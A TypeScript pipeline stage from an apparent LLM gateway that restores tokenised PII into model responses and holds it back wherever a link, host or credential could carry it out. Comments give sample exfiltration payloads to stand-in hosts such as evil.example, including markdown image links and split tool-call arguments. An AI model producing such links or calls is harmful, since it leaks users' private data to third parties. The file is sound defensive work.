/**
 * Stage 9: puts this call's PII values back into the response, for the authorised caller only
 * (request.restorePii, default true). A withheld response is not restored. If restoring fails the
 * tokens stay in place: a safe degradation (the caller sees [EMAIL_1], nobody sees another value).
 * Three places keep their tokens, each counted in the verdict (counts and categories, never values):
 *  - in the text answer, every token from the first word that opens a link the caller did not write
 *    to the end of the answer (see restoreText): a link written across white space is not followed
 *    to its end, the rest of the answer keeps its tokens instead;
 *  - every token of a function call's arguments, or of structured output, in which some string points
 *    somewhere (a URL, `//host`, `\\host\share`, `host:port`, an IP literal, `src=`, a string that is
 *    just a host name, any string under a key such as `url` or `webhook_host`: see
 *    pii-restore-url.ts) that the caller's own messages do not hold: a model must not turn the
 *    caller's data into an exfiltration link, within one string, split across fields, or split across
 *    the function calls of one answer (judged together). Judged per string, never per word. Otherwise
 *    a token that is the whole value (`to: "[EMAIL_1]"`) is restored, since tools need real values,
 *    and so is a whole URL the caller wrote. Not covered: state a tool keeps across turns (a browser
 *    sent to a URL in one answer, the values typed into that page in the next); that needs the
 *    tool's own boundary;
 *  - a token whose value completes a credential (stage 7 checked the tokenised text, so a value
 *    restored after it could finish a connection string): stage 7's checks (findCredentials, scan
 *    copy included) run again on what was restored, and a credential that only appears with the
 *    values keeps the tokens that made it.
 * A streamed answer's last part is released here, once stages 7–9 have passed (see output-stream.ts).
 */
import type { FunctionCall } from '../../providers/provider.ts';
import type { JsonValue, Restorer } from '../pii/index.ts';
import { TOKEN_PATTERN } from '../pii/index.ts';
import type { CallContext, GatewayRequest } from '../context.ts';
import { findCredentials } from '../output/credentials.ts';
import { causeName } from '../errors.ts';
import { verdict, type Stage, type StageVerdict, type VerdictDetail } from '../stage.ts';
import { holdsUrl, isHostName, joinsIntoUrl, LINK_WORD, namesLocation, opensLink, pairsLabelWithPort } from './pii-restore-url.ts';

function tokenCount(text: string): number {
  let n = 0;
  for (const _ of text.matchAll(TOKEN_PATTERN)) n++;
  return n;
}

/** Plain JSON data (what JSON.parse gives), which restoreValue can walk without losing anything. */
function isJsonData(value: unknown, depth = 0): value is JsonValue {
  if (value === null || typeof value === 'string' || typeof value === 'boolean') return true;
  if (typeof value === 'number') return Number.isFinite(value);
  if (typeof value !== 'object' || depth > 256) return false;
  if (Array.isArray(value)) return value.every((v) => isJsonData(v, depth + 1));
  const proto: unknown = Object.getPrototypeOf(value);
  return (proto === Object.prototype || proto === null) && Object.values(value).every((v) => isJsonData(v, depth + 1));
}

/** Tokens left in place on purpose, per reason: how many and of which categories (never values). */
class KeptTokens {
  count = 0;
  readonly categories = new Set<string>();
  add(token: string): void {
    this.count++;
    this.categories.add(/^\[([A-Z][A-Z_]*)_\d+\]$/.exec(token)?.[1] ?? 'UNKNOWN');
  }
  detail(key: string): VerdictDetail {
    return this.count === 0 ? {} : { [key]: this.count, [`${key}Categories`]: [...this.categories].sort().join(',') };
  }
}

interface TokenAt {
  readonly token: string;
  readonly start: number;
  readonly end: number;
}

/** The tokens of `text` that this restorer would replace (issued here, not withheld, authorised). */
function restorableTokens(text: string, restorer: Restorer): TokenAt[] {
  if (!restorer.authorised || !text.includes('[')) return [];
  const out: TokenAt[] = [];
  for (const m of text.matchAll(TOKEN_PATTERN)) {
    if (restorer.restore(m[0]) !== m[0]) out.push({ token: m[0], start: m.index, end: m.index + m[0].length });
  }
  return out;
}

/** `text` with every restorable token restored except those in `keep`; where each restored value landed. */
function restoreExcept(text: string, tokens: readonly TokenAt[], keep: ReadonlySet<TokenAt>, restorer: Restorer): { text: string; values: { start: number; end: number }[] } {
  let out = '';
  let at = 0;
  const values: { start: number; end: number }[] = [];
  for (const t of tokens) {
    out += text.slice(at, t.start);
    const value = keep.has(t) ? t.token : restorer.restore(t.token);
    if (!keep.has(t)) values.push({ start: out.length, end: out.length + value.length });
    out += value;
    at = t.end;
  }
  return { text: out + text.slice(at), values };
}

/**
 * Restores `text` (tokenised, as stage 7 checked it) except the tokens in `keep`, then keeps also
 * every token whose value lies inside a credential that the restored text shows. Should the values
 * still make more credentials than the tokenised text has (context far from the value), nothing is
 * restored (fail closed to what stage 7 passed).
 */
async function restoreChecked(text: string, tokens: readonly TokenAt[], keep: Set<TokenAt>, restorer: Restorer, credentialKept: KeptTokens): Promise<string> {
  let restored = restoreExcept(text, tokens, keep, restorer);
  if (restored.values.length === 0) return restored.text;
  const spans = await findCredentials(restored.text);
  if (spans.length === 0) return restored.text;
  const baseline = (await findCredentials(text)).length;
  const live = tokens.filter((t) => !keep.has(t));
  const completing = live.filter((_, i) => {
    const v = restored.values[i] as { start: number; end: number };
    return spans.some((s) => s.start < v.end && v.start < s.end);
  });
  if (completing.length === 0 && spans.length <= baseline) return restored.text;
  for (const t of completing) keep.add(t);
  restored = restoreExcept(text, tokens, keep, restorer);
  if (restored.values.length > 0 && (await findCredentials(restored.text)).length > baseline) {
    for (const t of tokens) keep.add(t);
    restored = restoreExcept(text, tokens, keep, restorer);
  }
  for (const t of tokens) if (keep.has(t) && !completing.includes(t) && live.includes(t)) completing.push(t);
  for (const t of completing) credentialKept.add(t.token);
  return restored.text;
}

/** Punctuation around a URL in prose, not part of it. */
const URL_WRAPPING = /^[("'<[]+|[.,;:!?)"'>\]]+$/g;
/** A URL-ish run inside the caller's words (`(see https://x/y)`, `url="https://x/y"`). */
const CALLER_URL = /[A-Za-z][A-Za-z0-9+.-]*:[^\s<>"'`()[\]]+/g;
/** Nothing but a scheme and slashes (`https://`): a fragment to build a link with, never a whole URL. */
const SCHEME_ONLY = /^(?:[A-Za-z][A-Za-z0-9+.-]*:)?[\\/]*$/;
/** Markdown emphasis or code around a URL in an answer (`**https://…**`). */
const EMPHASIS_END = /[*_~`]+$/;

/** The text the caller wrote (user and system messages, not tool outputs, documents or the model's turns). */
function callerText(request: GatewayRequest): string {
  return request.messages
    .filter((m) => m.role !== 'assistant' && (m.source === undefined || m.source === 'user'))
    .map((m) => m.content)
    .join('\n');
}

/** The caller's whole words and the URLs inside them, wrapping punctuation removed: what counts as a URL the caller wrote. */
function callerWords(text: string): Set<string> {
  const words = new Set<string>();
  for (const word of text.split(/\s+/)) {
    words.add(word);
    words.add(word.replace(URL_WRAPPING, ''));
    for (const m of word.matchAll(CALLER_URL)) words.add(m[0].replace(URL_WRAPPING, ''));
  }
  words.delete('');
  return words;
}

/**
 * Whether `restored` (a string or word, its values restored) is a whole URL the caller wrote, not a
 * bare scheme to build one with. For a word of a text answer (`inWord`), also a word whose one URL
 * (as CALLER_URL finds the caller's) is exactly one the caller wrote and whose rest points nowhere:
 * `[the record](https://crm.example/…)`, `**https://crm.example/…**`, `` `https://crm.example/…` ``.
 * A word holding another URL beside it, or around it (`https://evil.example/?u=https://crm…`), is not.
 */
function callerWroteLink(restored: string, caller: () => Set<string>, inWord = false): boolean {
  const written = restored.trim();
  const unwrapped = written.replace(URL_WRAPPING, '');
  if (!SCHEME_ONLY.test(unwrapped) && (caller().has(written) || caller().has(unwrapped))) return true;
  if (!inWord) return false;
  const urls = [...written.matchAll(CALLER_URL)];
  const found = urls[0];
  if (urls.length !== 1 || found === undefined) return false;
  const url = [found[0], found[0].replace(URL_WRAPPING, ''), found[0].replace(EMPHASIS_END, '').replace(URL_WRAPPING, '')].find(
    (candidate) => !SCHEME_ONLY.test(candidate) && caller().has(candidate),
  );
  if (url === undefined) return false;
  return !holdsUrl(`${written.slice(0, found.index)} ${written.slice(found.index + url.length)}`);
}

interface DataString {
  readonly text: string;
  readonly asKey: boolean;
  /** Under a key that names a location (namesLocation), at any depth. */
  readonly located: boolean;
}

/** Every string of a JSON value, keys and values, in the order restoreArguments walks them. */
function stringsOf(value: JsonValue, out: DataString[] = [], depth = 0, located = false): DataString[] {
  if (depth > 256) throw new RangeError('PII restore: JSON value nested deeper than 256 levels; refusing it.');
  if (typeof value === 'string') out.push({ text: value, asKey: false, located });
  else if (Array.isArray(value)) for (const v of value) stringsOf(v, out, depth + 1, located);
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push({ text: k, asKey: true, located });
      stringsOf(v, out, depth + 1, located || namesLocation(k));
    }
  }
  return out;
}

/**
 * Whether a JSON value (one call's arguments, every call of one answer, or the structured output)
 * points somewhere the caller did not: a string holding anything URL-like, tokenised or restored, a
 * string that is exactly a host name (`{host: "evil.example", path: "/c", q: "[EMAIL_1]"}`: the tool
 * builds the link), or any non-empty string under a key that names a location (`url`, `webhook_uri`,
 * `callbackHost`, …: see namesLocation), that is not a whole URL or host the caller wrote; or pieces
 * that only join into a URL. Then none of its
 * tokens is restored, whole values included: `{url: "https://evil.example/c?d=", d: "[EMAIL_1]"}` is
 * one link to a tool that joins it. Every string is a piece, the caller's fragments too (`https://`
 * from the caller's own link joins `evil.example` as well as the model's would); only a whole URL the
 * caller wrote stands apart, as a gap, so it joins with nothing.
 */
function pointsElsewhere(value: JsonValue, restorer: Restorer, caller: () => Set<string>): boolean {
  // A host label and a port in separate fields (`{target: "attacker", port: 8080}`): see pairsLabelWithPort.
  if (pairsLabelWithPort(value)) return true;
  const pieces: string[] = [];
  for (const { text, asKey, located } of stringsOf(value)) {
    const restored = restorer.restore(text);
    const locates = located && !asKey && text.trim() !== '';
    if (!locates && !holdsUrl(text) && !holdsUrl(restored) && !isHostName(text) && !isHostName(restored)) {
      pieces.push(text);
      continue;
    }
    // A caller's word vouches only as a URL or host: `{webhook_url: "[EMAIL_1]"}` is no link the caller wrote.
    if (!callerWroteLink(restored, caller) || !(holdsUrl(restored) || isHostName(restored))) return true;
    pieces.push(' ');
  }
  return joinsIntoUrl(pieces);
}

/**
 * Restores one string of a JSON value (already judged not to point elsewhere): a whole-value token as
 * restoreValue would (a number gives its number back), keeping tokens that complete a credential.
 */
async function restoreDataString(text: string, asKey: boolean, restorer: Restorer, credentialKept: KeptTokens): Promise<JsonValue> {
  const tokens = restorableTokens(text, restorer);
  if (tokens.length === 0) return text;
  if (!asKey && tokens.length === 1 && tokens[0]?.start === 0 && tokens[0].end === text.length) {
    const whole = restorer.restoreValue(text);
    if (typeof whole !== 'string') return whole;
  }
  return restoreChecked(text, tokens, new Set(), restorer, credentialKept);
}

/**
 * `restore` over a JSON value's strings and keys (`asKey` for a key: a token issued for a number
 * stays text there). Walked in order, one string at a time.
 */
async function restoreArguments(value: JsonValue, restore: (text: string, asKey: boolean) => Promise<JsonValue>, depth = 0): Promise<JsonValue> {
  if (depth > 256) throw new RangeError('PII restore: JSON value nested deeper than 256 levels; refusing it.');
  if (typeof value === 'string') return restore(value, false);
  if (Array.isArray(value)) {
    const out: JsonValue[] = [];
    for (const v of value) out.push(await restoreArguments(v, restore, depth + 1));
    return out;
  }
  if (value !== null && typeof value === 'object') {
    const out: { [key: string]: JsonValue } = {};
    for (const [k, v] of Object.entries(value)) {
      const key = String(await restore(k, true));
      // Sets an own property whatever its name ("__proto__" included), as the redaction session does.
      Object.defineProperty(out, key, { value: await restoreArguments(v, restore, depth + 1), enumerable: true, writable: true, configurable: true });
    }
    return out;
  }
  return value;
}

/**
 * A JSON value (one call's arguments, or the structured output) restored: nothing if it points
 * elsewhere (pointsElsewhere, counted as kept in a URL), else every string as restoreDataString does.
 * Should the restored value, read as stage 7 reads it (one JSON text), hold more credentials than the
 * tokenised one, it keeps all its tokens.
 */
async function restoreData(tokenised: JsonValue, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<JsonValue> {
  if (!restorer.authorised) return tokenised;
  if (pointsElsewhere(tokenised, restorer, caller)) {
    for (const { text } of stringsOf(tokenised)) for (const t of restorableTokens(text, restorer)) urlKept.add(t.token);
    return tokenised;
  }
  const restored = await restoreArguments(tokenised, (text, asKey) => restoreDataString(text, asKey, restorer, credentialKept));
  const before = JSON.stringify(tokenised);
  const after = JSON.stringify(restored);
  if (after !== before && (await findCredentials(after)).length > (await findCredentials(before)).length) {
    for (const t of restorableTokens(before, restorer)) credentialKept.add(t.token);
    return tokenised;
  }
  return restored;
}

/**
 * The function calls with their arguments restored (see restoreData). The calls of one answer are
 * judged together, as one value: `browser_goto` to a URL and `browser_type` of the values into its
 * page are one exfiltration, so a URL the caller did not write in any call keeps every call's tokens.
 */
async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<FunctionCall[]> {
  const args = calls.map((call) => (call.arguments ?? null) as JsonValue);
  const walkable = args.filter((a) => isJsonData(a));
  // Each call's strings are joined on their own (one call's `Agenda:` and the next call's path
  // are no link); any call that points elsewhere keeps every call's tokens.
  if (restorer.authorised && walkable.some((a) => pointsElsewhere(a, restorer, caller))) {
    for (const { text } of stringsOf(walkable)) for (const t of restorableTokens(text, restorer)) urlKept.add(t.token);
    return calls.map((call, i) => ({ name: call.name, arguments: args[i] as JsonValue }));
  }
  const out: FunctionCall[] = [];
  for (const [i, call] of calls.entries()) {
    const tokenised = args[i] as JsonValue;
    // Arguments JSON cannot hold (undefined, NaN, a class instance) are not walked for URLs: they keep their tokens.
    out.push({ name: call.name, arguments: isJsonData(tokenised) ? await restoreData(tokenised, restorer, caller, urlKept, credentialKept) : tokenised });
  }
  return out;
}

/**
 * The text answer restored up to the first word that opens a link the caller did not write
 * (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown or HTML loads it, and
 * the value is in someone's server log without a click). That word's tokens and every token after
 * it in the answer stay tokens, counted as kept in a URL: where a link ends (angle brackets, a quoted
 * attribute over blank lines, `url(…)`, srcset) is not judged, so a link written across white space
 * (`<img src="…?d=x\n[EMAIL_1]">`) carries nothing out, at the cost of tokens in the prose after a
 * link (a safe degradation). Words split at ASCII white space (a no-break space can sit inside a
 * link); each asked opensLink, as written and restored. A word that is a link the caller wrote,
 * restored (bare, or in markdown or code), opens nothing. Linear in the text: the tokens are walked
 * forward with the words.
 */
function restoreText(text: string, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<string> {
  const tokens = restorableTokens(text, restorer);
  const keep = new Set<TokenAt>();
  const last = tokens.at(-1);
  if (last !== undefined) {
    let next = 0; // the first token not wholly before this word (a token never holds white space)
    for (const word of text.matchAll(LINK_WORD)) {
      if (word.index >= last.end) break; // no token left to keep
      while (next < tokens.length && (tokens[next] as TokenAt).end <= word.index) next++;
      const restored = word[0].includes('[') ? restorer.restore(word[0]) : word[0];
      if (!opensLink(word[0], restored) || callerWroteLink(restored, caller, true)) continue;
      for (const t of tokens.slice(next)) {
        keep.add(t);
        urlKept.add(t.token);
      }
      break;
    }
  }
  return restoreChecked(text, tokens, keep, restorer, credentialKept);
}

export const piiRestore: Stage = {
  name: 'pii-restore',
  stopsOnBlock: false,
  async run(ctx: CallContext): Promise<StageVerdict> {
    const started = performance.now();
    if (ctx.blocked !== undefined || ctx.output === undefined) {
      return verdict(this.name, 'not-run', { reason: ctx.blocked?.code ?? 'no-output' }, started);
    }
    const authorised = ctx.request.restorePii !== false;
    const before = tokenCount(ctx.output);
    const urlKept = new KeptTokens();
    const credentialKept = new KeptTokens();
    try {
      const restorer = ctx.pii.restorer(authorised);
      let caller: Set<string> | undefined;
      const callerOnce = (): Set<string> => (caller ??= callerWords(callerText(ctx.request)));
      if (ctx.structuredValue !== undefined) {
        // Structured output is restored as data, never as text: a value holding `"` or `\` spliced
        // into the JSON text would change its structure after stage 7 checked it. The text is the
        // restored value written out again. A value a zod schema transformed into something JSON
        // cannot hold (a Date) keeps its tokens, text and value alike: a safe degradation.
        if (isJsonData(ctx.structuredValue)) {
          ctx.structuredValue = await restoreData(ctx.structuredValue, restorer, callerOnce, urlKept, credentialKept);
          ctx.finalText = JSON.stringify(ctx.structuredValue);
        } else ctx.finalText = ctx.output;
      } else ctx.finalText = await restoreText(ctx.output, restorer, callerOnce, urlKept, credentialKept);
      ctx.finalFunctionCalls = await restoreFunctionCalls(ctx.functionCalls ?? [], restorer, callerOnce, urlKept, credentialKept);
    } catch (error) {
      ctx.finalText = ctx.output;
      ctx.finalFunctionCalls = ctx.functionCalls ?? [];
      ctx.stream?.releaseFinal(ctx.finalText);
      return verdict(this.name, 'skip-degraded', { authorised, tokens: before, cause: causeName(error) }, started);
    }
    ctx.stream?.releaseFinal(ctx.finalText);
    const left = tokenCount(ctx.finalText);
    const kept = { ...urlKept.detail('keptInUrl'), ...credentialKept.detail('keptForCredential') };
    if (urlKept.count + credentialKept.count === 0) return verdict(this.name, 'pass', { authorised, tokens: before, restored: before - left, unreplaced: left }, started);
    ctx.findings.add(this.name);
    return verdict(this.name, 'flag', { authorised, tokens: before, restored: before - left, unreplaced: left, ...kept }, started);
  },
};
